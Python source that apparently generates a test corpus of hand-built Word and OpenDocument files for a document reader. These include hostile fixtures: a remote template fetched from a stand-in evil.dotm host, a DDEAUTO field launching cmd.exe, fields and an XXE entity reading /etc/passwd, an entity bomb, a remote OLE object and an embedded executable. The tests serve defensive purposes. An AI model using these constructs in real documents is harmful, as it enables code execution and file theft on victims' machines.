# SPDX-FileCopyrightText: The Lever Arch contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Word and OpenDocument texts, put together by hand: what hides in them, what they want from outside."""

import zipfile

from cfb import compound
from pixels import png
from zips import pack

OOXML = "ECMA-376 part 1"
ODF = "OpenDocument 1.3"
TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
         '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>%s</Types>')
OVERRIDE = '<Override PartName="%s" ContentType="%s"/>'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
     'officeDocument/2006/relationships"')


def relations(entries):
    """`entries` are (id, type, target, external) of one part."""
    body = "".join(f'<Relationship Id="{i}" Type="{RELATION}{kind}" Target="{target}"'
                   f'{" TargetMode=" + chr(34) + "External" + chr(34) if external else ""}/>' for i, kind, target, external in entries)
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships">{body}</Relationships>')


def paragraph(text, properties=""):
    return f'<w:p><w:r>{properties}<w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def docx(body, links=(), parts=(), kind="document.main+xml", dtd="", leave_out=()):
    """`parts` are (name, content type, bytes) besides the document itself."""
    overrides = OVERRIDE % ("/word/document.xml", WORD + kind if "/" not in kind else kind)
    overrides += "".join(OVERRIDE % ("/" + name, content) for name, content, _ in parts if content)
    files = [("[Content_Types].xml", TYPES % overrides),
             ("_rels/.rels", relations([("rId1", "officeDocument", "word/document.xml", False)])),
             ("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?>{dtd}<w:document {W}><w:body>{"".join(body)}'
              '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>'),
             ("word/_rels/document.xml.rels", relations(links))]
    files += [(name, data) for name, _, data in parts]
    return pack([(name, data) for name, data in files if name not in leave_out])


def odf(kind, body, manifest="", parts=(), leave_out=()):
    office = "urn:oasis:names:tc:opendocument:xmlns:"
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               + " ".join(f'xmlns:{name}="{office}{name}:1.0"' for name in ("office", "text", "table", "style", "script"))
               + f' xmlns:draw="{office}drawing:1.0" xmlns:fo="{office}xsl-fo-compatible:1.0"'
               + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3">'
               + body + "</office:document-content>")
    mime = f"application/vnd.oasis.opendocument.{kind}"
    listed = manifest or (f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/><manifest:file-entry '
                          'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                          + "".join(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type=""/>' for name, _ in parts))
    files = [("mimetype", mime), ("content.xml", content),
             ("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
              f'opendocument:xmlns:manifest:1.0" manifest:version="1.3">{listed}</manifest:manifest>')] + list(parts)
    return pack([(name, data) for name, data in files if name not in leave_out], zipfile.ZIP_STORED)


def odt(text, **more):
    return odf("text", f"<office:body><office:text>{text}</office:text></office:body>", **more)


def make(shelf):
    words_in(shelf)
    outside(shelf)
    broken(shelf)
    locked(shelf)
    open_documents(shelf)


def add(shelf, name, build, why, source=OOXML, **holds):
    """build(word) gives the bytes."""
    word = shelf.word()
    words = [word] + holds.pop("words", [])
    if holds.get("status") == "either":
        words = []
    shelf.add(f"office/{name}", build(word), why, source, words=words, **holds)


def words_in(shelf):
    add(shelf, "plain.docx", lambda w: docx([paragraph(w)]), "one paragraph")
    deleted = shelf.word()
    change = 'w:id="1" w:author="HR" w:date="2020-04-16T09:30:00Z"'
    add(shelf, "tracked.docx", lambda w: docx([f'<w:p><w:ins {change}><w:r><w:t>{w}</w:t></w:r></w:ins><w:del {change}><w:r>'
        f"<w:delText>{deleted}</w:delText></w:r></w:del></w:p>"]), "an insertion and a deletion nobody has accepted", notes=["TrackedChanges"])
    comments = (f'<?xml version="1.0"?><w:comments {W}><w:comment w:id="0" w:author="HR">' + paragraph("Do not send this out")
                + "</w:comment></w:comments>")
    add(shelf, "comment.docx", lambda w: docx(['<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>' + w + '</w:t></w:r><w:commentRangeEnd '
        'w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'], [("rId9", "comments", "comments.xml", False)],
        [("word/comments.xml", WORD + "comments+xml", comments)]), "a comment in the margin", notes=["Comments"])
    add(shelf, "hidden.docx", lambda w: docx([paragraph(w), paragraph("secret", "<w:rPr><w:vanish/></w:rPr>")]),
        "a paragraph marked as hidden", notes=["HiddenText"])
    add(shelf, "white.docx", lambda w: docx([paragraph(w), paragraph("pale", '<w:rPr><w:color w:val="FFFFFF"/></w:rPr>')]),
        "white letters")
    cell = "<w:tc><w:tcPr/>" + "%s</w:tc>"
    add(shelf, "nested tables.docx", lambda w: docx([nested_tables(25, cell, w)]), "25 tables inside each other", status="either")
    add(shelf, "2000 paragraphs.docx", lambda w: docx([paragraph(w)] + [paragraph(f"Paragraph {i}") for i in range(2_000)]),
        "2,000 paragraphs")
    add(shelf, "long word.docx", lambda w: docx([paragraph(w), paragraph("x" * 50_000)]), "a word of 50,000 letters", status="either")
    add(shelf, "scripts.docx", lambda w: docx([paragraph(w), paragraph("会议 اجتماع הישיבה คุณ")]), "four scripts", words=["会议"])
    footnotes = f'<?xml version="1.0"?><w:footnotes {W}><w:footnote w:id="2">' + paragraph("Small print") + "</w:footnote></w:footnotes>"
    add(shelf, "footnote.docx", lambda w: docx([f'<w:p><w:r><w:t>{w}</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'],
        [("rId9", "footnotes", "footnotes.xml", False)], [("word/footnotes.xml", WORD + "footnotes+xml", footnotes)]), "a footnote")
    add(shelf, "empty.docx", lambda w: docx([]), "a document without a word", status="either")
    add(shelf, "control.docx", lambda w: docx([paragraph(w + "&#x1;&#x8;")]), "characters XML does not allow", status="either")


def nested_tables(depth, cell, word):
    made = paragraph(word)
    for _ in range(depth):
        made = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr>" + cell % (made + "<w:p/>") + "</w:tr></w:tbl>"
    return made + "<w:p/>"


def outside(shelf):
    macro = ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", compound({"dir": b"\x01" * 40, "_VBA_PROJECT": b"\xcc\x61" * 20}))
    vba = ("rId8", "../../../../office/2006/relationships/vbaProject", "vbaProject.bin", False)
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    add(shelf, "macros.docm", lambda w: docx([paragraph(w)], [vba], [macro], enabled), "macros", notes=["Macros"])
    add(shelf, "macros called.docx", lambda w: docx([paragraph(w)], [vba], [macro], enabled), "macros under a name without them",
        notes=["Macros"])
    settings = f'<?xml version="1.0"?><w:settings {W}><w:attachedTemplate r:id="rId1"/></w:settings>'
    add(shelf, "outside template.docx", lambda w: docx([paragraph(w)], [("rId7", "settings", "settings.xml", False)], [
        ("word/settings.xml", WORD + "settings+xml", settings),
        ("word/_rels/settings.xml.rels", "", relations([("rId1", "attachedTemplate", "http://example.invalid/evil.dotm", True)]))]),
        "a template that lies on the web", "MITRE ATT&amp;CK T1221", notes=["ExternalLinks"])
    field = '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; "><w:r><w:t>%s</w:t></w:r></w:fldSimple></w:p>'
    add(shelf, "outside text.docx", lambda w: docx([field % w]), "a field that wants a file of the computer", absent=["root:x:0"])
    dde = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>%s</w:t></w:r></w:fldSimple></w:p>'
    add(shelf, "dde.docx", lambda w: docx([dde % w]), "a field that wants a program", "Microsoft advisory 4053440")
    add(shelf, "outside picture.docx", lambda w: docx([paragraph(w)], [("rId6", "image", "http://example.invalid/a.png", True)]),
        "a picture that lies on the web", notes=["ExternalLinks"])
    add(shelf, "outside object.docx", lambda w: docx([paragraph(w)], [("rId6", "oleObject", "file://example.invalid/share/a.docx", True)]),
        "an object that lies on another computer", "CVE-2021-40444", notes=["ExternalLinks"])
    package = compound({"\x01Ole10Native": b"\x10\0\0\0\x02\0a.exe\0" + b"\0" * 60})
    add(shelf, "embedded.docx", lambda w: docx([paragraph(w)], [("rId6", "oleObject", "embeddings/oleObject1.bin", False)],
        [("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", package)]),
        "a program wrapped inside", notes=["EmbeddedFiles"])
    add(shelf, "picture.docx", lambda w: docx([paragraph(w)], [("rId6", "image", "media/a.png", False)],
        [("word/media/a.png", "", png(9, 9, b"\x01\x02\x03"))]), "a picture nobody shows")


def broken(shelf):
    either = {"status": "either"}
    add(shelf, "no document.docx", lambda w: docx([paragraph(w)], leave_out=["word/document.xml"]), "its main part is missing", **either)
    add(shelf, "no types.docx", lambda w: docx([paragraph(w)], leave_out=["[Content_Types].xml"]), "its list of types is missing", **either)
    add(shelf, "no relations.docx", lambda w: docx([paragraph(w)], leave_out=["_rels/.rels"]), "its relations are missing", **either)
    add(shelf, "no comments.docx", lambda w: docx([paragraph(w)], [("rId9", "comments", "comments.xml", False)]),
        "names comments that are not there")
    add(shelf, "bad xml.docx", lambda w: docx([paragraph(w) + "<w:p><w:r><w:t>open"]), "XML that is not closed", **either)
    lol = '<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi")) + "]>"
    add(shelf, "xml bomb.docx", lambda w: docx([paragraph(w + "&i;")], dtd=lol), "entities that would make a thousand million letters",
        "CVE-2003-1564", **either)
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    add(shelf, "outside entity.docx", lambda w: docx([paragraph(w + "&e;")], dtd=entity), "an entity that names a file of the computer",
        "OWASP: XXE", absent=["root:x:0"], **either)
    add(shelf, "deep xml.docx", lambda w: docx(["<w:p>" * 20_000 + w]), "20,000 elements inside each other", **either)
    add(shelf, "bomb.docx", lambda w: docx([paragraph(w)], [], [("word/media/zeros.png", "", b"\0" * 30_000_000)]),
        "30 MB of zeros inside", **either)
    add(shelf, "cut.docx", lambda w: docx([paragraph(w)])[:700], "breaks off", **either)
    add(shelf, "renamed.zip", lambda w: docx([paragraph(w)]), "a Word file that is called a zip", notes=["WrongEnding"])
    add(shelf, "renamed.doc", lambda w: docx([paragraph(w)]), "a new Word file under the old ending")
    add(shelf, "utf-16.docx", utf16_docx, "its main part in UTF-16", **either)


def utf16_docx(word):
    body = f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><w:body>{paragraph(word)}</w:body></w:document>'
    return pack([("[Content_Types].xml", TYPES % (OVERRIDE % ("/word/document.xml", WORD + "document.main+xml"))),
                 ("_rels/.rels", relations([("rId1", "officeDocument", "word/document.xml", False)])),
                 ("word/document.xml", body.encode("utf-16"))])


def locked(shelf):
    info = b"\x04\0\x04\0\x40\0\0\0" + b'<?xml version="1.0"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'
    for ending in ("docx", "xlsx"):
        sealed = compound({"EncryptedPackage": ending.encode() + b"\x5a" * 5_000, "EncryptionInfo": info})
        shelf.add(f"office/locked.{ending}", sealed, "locked with a password", "MS-OFFCRYPTO", locked=True)
    shelf.add("office/old.doc", compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 600, "1Table": b"\0" * 100}),
              "the old kind of Word file, hardly anything in it", "MS-DOC", status="either")
    shelf.add("office/old.xls", compound({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0" + b"\0" * 600}),
              "the old kind of Excel file, hardly anything in it", "MS-XLS", status="either")
    shelf.add("office/old.ppt", compound({"PowerPoint Document": b"\0" * 600, "Current User": b"\0" * 60}), "an old presentation",
              "MS-PPT", status="either")
    shelf.add("office/cfb cut.doc", compound({"WordDocument": b"\xec\xa5" * 300})[:1_500], "an old Word file that breaks off", "MS-CFB",
              status="either")
    loop = bytearray(compound({"WordDocument": b"\xec\xa5" * 301}))
    loop[512 + 8:512 + 12] = b"\x02\0\0\0"
    shelf.add("office/cfb loop.doc", bytes(loop), "a chain of sectors that leads round in a circle", "MS-CFB", status="either")
    sealed = ('<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="1000"><manifest:encryption-data '
              'manifest:checksum-type="SHA256-1K" manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/'
              'xmlenc#aes256-cbc" manifest:initialisation-vector="AAAA"/><manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:'
              'key-size="32" manifest:iteration-count="100000" manifest:salt="AAAA"/></manifest:encryption-data></manifest:file-entry>')
    for kind, ending in (("text", "odt"), ("spreadsheet", "ods")):
        shelf.add(f"office/locked.{ending}", odf(kind, "<office:body/>", f'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
                  f'vnd.oasis.opendocument.{kind}"/>' + sealed), "locked with a password", ODF + " part 3", locked=True)


def open_documents(shelf):
    def p(text):
        return f"<text:p>{text}</text:p>"
    add(shelf, "plain.odt", lambda w: odt(p(w)), "one paragraph", ODF)
    add(shelf, "tracked.odt", lambda w: odt('<text:tracked-changes><text:changed-region text:id="c1"><text:deletion><office:change-info>'
        "<dc:creator>HR</dc:creator><dc:date>2020-04-16T09:30:00</dc:date></office:change-info>" + p("gone") + "</text:deletion></text:changed-region>"
        "</text:tracked-changes>" + p(w + '<text:change text:change-id="c1"/>')), "a deletion nobody has accepted", ODF, notes=["TrackedChanges"])
    add(shelf, "comment.odt", lambda w: odt(p(w + "<office:annotation><dc:creator>HR</dc:creator>" + p("Do not send") + "</office:annotation>")),
        "a comment in the margin", ODF, notes=["Comments"])
    add(shelf, "macros.odt", lambda w: odt(p(w), parts=[("Basic/Standard/Module1.xml", '<?xml version="1.0"?><module>Sub Main\nEnd Sub</module>'),
        ("Basic/script-lc.xml", '<?xml version="1.0"?><x/>')]), "macros", ODF, notes=["Macros"])
    add(shelf, "outside section.odt", lambda w: odt('<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/>' + p(w)
        + "</text:section>"), "a section that wants a file of the computer", "CVE-2020-12802", absent=["root:x:0"], notes=["ExternalLinks"])
    add(shelf, "hidden.odt", lambda w: odt(p(w) + '<text:section text:name="s" text:display="none">' + p("secret") + "</text:section>"),
        "a section marked as hidden", ODF, notes=["HiddenText"])
    add(shelf, "spaces.odt", lambda w: odt(p(w + '<text:s text:c="2000000000"/>')), "two thousand million spaces", ODF, status="either")
    add(shelf, "no content.odt", lambda w: odt(p(w), leave_out=["content.xml"]), "its content is missing", ODF, status="either")
    add(shelf, "no manifest.odt", lambda w: odt(p(w), leave_out=["META-INF/manifest.xml"]), "its manifest is missing", ODF, status="either")
    add(shelf, "no mimetype.odt", lambda w: odt(p(w), leave_out=["mimetype"]), "it does not say what it is", ODF, status="either")
    shelf.add("office/slides.odp", odf("presentation", '<office:body><office:presentation><draw:page draw:name="p"/></office:presentation></office:body>'),
              "a presentation", ODF, status="either")
    shelf.add("office/drawing.odg", odf("graphics", "<office:body><office:drawing/></office:body>"), "a drawing", ODF, status="either")
    add(shelf, "many words.odt", lambda w: odt(p(w) + p("word ") * 5_000), "5,000 paragraphs", ODF)
